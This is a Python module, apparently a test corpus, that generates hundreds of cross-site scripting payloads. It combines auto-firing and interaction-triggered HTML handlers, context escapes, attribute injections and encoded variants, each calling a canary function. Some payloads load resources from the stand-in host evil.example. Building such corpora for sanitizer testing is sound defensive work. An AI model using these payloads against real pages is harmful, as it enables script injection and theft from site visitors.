"""Hundreds of ways in which a text tries to act in a page, put together from tags, handlers, ways out of a context and encodings.

Each calls `__executed` with its own name, so that what acts can be told. No name holds a digit: a report's numbers are its own.
"""

from __future__ import annotations

import itertools
import string

# Elements that act by themselves once they are in a page, and what makes them.
SELF = ("img src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle",
        "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "style onload", "object data=x onerror",
        "link rel=stylesheet href=x onerror", "video><source onerror", "svg><animate attributeName=x onbegin", "x onanimationstart")  # fmt: skip
# What acts when a reader does something; the test points at everything.
TOUCHED = ("a onmouseover", "b onmouseover", "div onpointerover", "p onclick", "span tabindex=A onfocus")
WHOLE = (
    "<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<script/x>{0}</script>", "<svg><script>{0}</script></svg>", "<math><mtext><script>{0}</script></mtext></math>",
    "<a href=javascript:{0}>点</a>", '<a href="java\tscript:{0}">点</a>', "<a href=&#106;avascript:{0}>点</a>", '<iframe src="javascript:{0}"></iframe>',
    '<iframe srcdoc="<script>{0}</script>"></iframe>', '<form action="javascript:{0}"><button>点</button></form>', '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">', '<meta http-equiv=refresh content="0;url=javascript:{0}">', '<base href="javascript:{0}//">', "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>", "<noscript><p title=\"</noscript><script>{0}</script>\">", "<template><script>{0}</script></template>", "<xmp><script>{0}</script>",
    "<img src=http://evil.example/{1}>", "<link rel=stylesheet href=//evil.example/{1}>", "<style>@import '//evil.example/{1}';</style>", "<p style=background:url(//evil.example/{1})>",
    "![{1}](http://evil.example/{1})", "[{1}](javascript:{0})", "{{{{ {0} }}}}", "{{% {0} %}}", "${{{0}}}", "javascript:{0}", "data:text/html,<script>{0}</script>",
)  # fmt: skip
# Ways out of where a text may stand: text, an attribute, a script's string, a comment, a style, a title, JSON, a template.
ESCAPES = (
    "",
    '">',
    "'>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "-->",
    "]]>",
    '"}]}</script>',
    "';",
    '";',
    "`;",
    "\\';",
    "*/",
    "</a></td></table>",
    "</svg>",
)
# Attributes that a text gets into without a bracket.
WITHIN = (
    '" onmouseover={0} x="',
    "' onmouseover={0} x='",
    '" autofocus onfocus={0} x="',
    "x onmouseover={0} ",
    '";{0};//',
    "';{0};//",
    "`${{{0}}}`",
    '\\";{0};//',
    "\u2028{0};//",
)

ENCODED = (("&lt;", "&gt;"), ("%3C", "%3E"), ("\\u003c", "\\x3e"), ("＜", "＞"))


def _names() -> itertools.chain[str]:
    return itertools.chain.from_iterable(
        map("".join, itertools.product(string.ascii_lowercase, repeat=length)) for length in (2, 3)
    )


def payloads() -> list[tuple[str, str]]:
    """(name, text), each name once; the same every time."""
    made: list[tuple[str, str]] = []
    names = _names()

    def add(form: str) -> None:
        name = next(names)
        made.append((name, form.format(f"__executed(`{name}`)", name)))

    for escape, opening in itertools.product(ESCAPES, (*SELF, *TOUCHED)):
        add(f"{escape.replace('{', '{{').replace('}', '}}')}<{opening}={{0}}>")
    for form in (*WHOLE, *WITHIN):
        add(form)
    # In encodings that something which decodes once too often would undo.
    for form, (opening, closing) in itertools.product(WHOLE[:20], ENCODED):
        name = next(names)
        made.append((name, form.format(f"__executed(`{name}`)", name).replace("<", opening).replace(">", closing)))
    return made
